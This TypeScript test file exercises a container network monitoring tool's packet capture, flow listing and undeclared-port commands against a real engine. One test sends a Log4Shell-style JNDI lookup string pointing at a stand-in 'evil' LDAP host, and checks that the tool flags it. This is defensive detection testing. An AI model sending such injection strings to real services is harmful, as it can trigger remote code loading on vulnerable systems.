// The commands on a container's network, as somebody types them on the host of a real engine.

import assert from "node:assert/strict";
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { startEngine, type TestEngine, whyNoEngine } from "../../support/engine.ts";
import { request } from "../../support/http.ts";
import { makeImage } from "../../support/images.ts";
import { at, textAt } from "../../support/json.ts";
import { enterOwnNetwork } from "../../support/own-network.ts";

const skip = whyNoEngine() ?? false;
const program = fileURLToPath(new URL("../../../src/main.ts", import.meta.url));

let engine: TestEngine;
let folder = "";
let web: Server;
let address = "";

before(async () => {
  if (skip !== false) return;
  enterOwnNetwork();
  engine = await startEngine({ network: true, sharesNetwork: true });
  await makeImage(engine.socket, { reference: "box:1" });
  folder = mkdtempSync(join(tmpdir(), "plimsoll-network-"));
  const bridge = execFileSync("ip", ["-4", "addr", "show", "docker0"], { encoding: "utf8" });
  const gateway = /inet ([\d.]+)/.exec(bridge)?.[1] ?? "";
  web = createServer((_, response) => response.end("answer")).listen(8090, gateway);
  await once(web, "listening");
  address = `http://${gateway}:8090`;
  const made = await request(engine.socket, "POST", "/containers/create?name=talker", {
    body: { Image: "box:1", Cmd: ["sh", "-c", "busybox httpd -p 8081; sleep 600"], ExposedPorts: { "443/tcp": {} } },
  });
  const started = await request(engine.socket, "POST", `/containers/${textAt(made.json, "Id")}/start`);
  assert.equal(started.status, 204, started.text);
});

after(async () => {
  web?.close();
  await engine?.close();
  if (folder !== "") rmSync(folder, { recursive: true });
});

/** Where the engine's numbers of processes are valid: its own namespace is this host's. */
function onHost(): readonly string[] {
  const outer = /^\/proc\/(\d+)\//.exec(engine.netns())?.[1] ?? "";
  const first = readFileSync(`/proc/${outer}/task/${outer}/children`, "utf8").trim();
  return ["nsenter", `--target=${first}`, "--pid", "--mount"];
}

type Run = {
  readonly child: ChildProcess;
  readonly ended: Promise<{ status: number | null; out: string; err: string }>;
};

function plimsoll(...args: readonly string[]): Run {
  const [command = "", ...enter] = [...onHost(), process.execPath, program, ...args];
  const child = spawn(command, enter, {
    env: { ...process.env, DOCKER_HOST: `unix://${engine.socket}`, NODE_NO_WARNINGS: "1" },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const texts = { out: "", err: "" };
  child.stdout.on("data", (text: Buffer) => {
    texts.out += text.toString();
  });
  child.stderr.on("data", (text: Buffer) => {
    texts.err += text.toString();
  });
  return { child, ended: once(child, "close").then(([status]) => ({ status, ...texts })) };
}

/** A request out of the container, again and again, until the command has seen enough. */
async function talkUntil(path: string, run: Run): Promise<{ status: number | null; out: string; err: string }> {
  const script = `const ask = () => fetch(process.argv[1]).then((answer) => answer.text()).then(() => setTimeout(ask, 100)); ask();`;
  const container = await request(engine.socket, "GET", "/containers/talker/json");
  const pid = at(container.json, "State", "Pid");
  const [command = "", ...enter] = [
    ...onHost(),
    "nsenter",
    `--net=/proc/${pid}/ns/net`,
    process.execPath,
    "-e",
    script,
    address + path,
  ];
  const talker = spawn(command, enter, { stdio: "ignore" });
  try {
    return await run.ended;
  } finally {
    talker.kill("SIGKILL");
  }
}

test("capture writes a file that tcpdump reads, and says what is in it", { skip }, async () => {
  const file = join(folder, "talker.pcapng");
  const { status, err } = await talkUntil(
    "/captured",
    plimsoll("watch", "capture", "talker", "-o", file, "--for", "4s"),
  );
  assert.match(err, /^\d+ packets of talker in .*talker\.pcapng \(\d+ KiB\), none lost\n$/);
  assert.equal(status, 0);
  assert.match(
    execFileSync("tcpdump", ["-nn", "-A", "-r", file], { encoding: "latin1", stdio: ["ignore", "pipe", "ignore"] }),
    /GET \/captured/,
  );
});

test("capture says what is missing: a place, a container, a sensible number", { skip }, async () => {
  const file = join(folder, "never.pcapng");
  const runs = await Promise.all(
    [["talker"], ["nobody", "-o", file], ["talker", "-o", file, "--snap", "none"]].map(
      (args) => plimsoll("watch", "capture", ...args).ended,
    ),
  );
  assert.deepEqual(
    runs.map(({ status, err }) => [status, /\[(\w+)\] (.*)/.exec(err)?.slice(1, 3)]),
    [
      [2, ["USAGE", "where to write the packets is not said"]],
      [3, ["NOT_FOUND", 'no container "nobody" runs here']],
      [2, ["USAGE", '--snap: expected a whole number above 0, found "none"']],
    ],
  );
});

test("flows are lines with the request that was made, and its sign", { skip }, async () => {
  const run = plimsoll("watch", "flows", "talker", "--open", "--for", "4s");
  const { status, out } = await talkUntil("/?x=$%7Bjndi:ldap://evil%7D", run);
  assert.match(out, /tcp -> 172\.\d+\.\d+\.1:8090 {2}GET 172\.\d+\.\d+\.1:8090\/\?x=.*jndi.* {2}jndi\n/);
  assert.equal(status, 0);
});

test("ports that nobody declared are told, with exit code 1", { skip }, async () => {
  const { status, out } = await plimsoll("watch", "ports", "talker").ended;
  assert.match(out, /8081\/tcp +\S+ +open, and not declared\n443\/tcp +- +declared, nobody listens\n/);
  assert.equal(status, 1);
});

test("a neighbour of a network of one's own is shown by its name", { skip }, async (t) => {
  const make = async (path: string, body: object): Promise<string> => {
    const made = await request(engine.socket, "POST", path, { body });
    assert.equal(made.status, 201, made.text);
    return textAt(made.json, "Id");
  };
  await make("/networks/create", { Name: "own" });
  const host = { NetworkMode: "own" };
  const serve = "exec busybox httpd -f -p 8082";
  const ask = "while true; do busybox wget -qO- http://neighbour:8082/; sleep 0.3; done";
  const ids = [
    await make("/containers/create?name=neighbour", { Image: "box:1", Cmd: ["sh", "-c", serve], HostConfig: host }),
    await make("/containers/create?name=asker", { Image: "box:1", Cmd: ["sh", "-c", ask], HostConfig: host }),
  ];
  t.after(async () => {
    for (const id of ids) await request(engine.socket, "DELETE", `/containers/${id}?force=1`);
  });
  for (const id of ids) {
    const started = await request(engine.socket, "POST", `/containers/${id}/start`);
    assert.equal(started.status, 204, started.text);
  }
  const { out } = await plimsoll("watch", "flows", "asker", "--for", "4s").ended;
  assert.match(out, /tcp -> neighbour 172\.\d+\.0\.\d+:8082 {2}GET neighbour:8082\//);
});
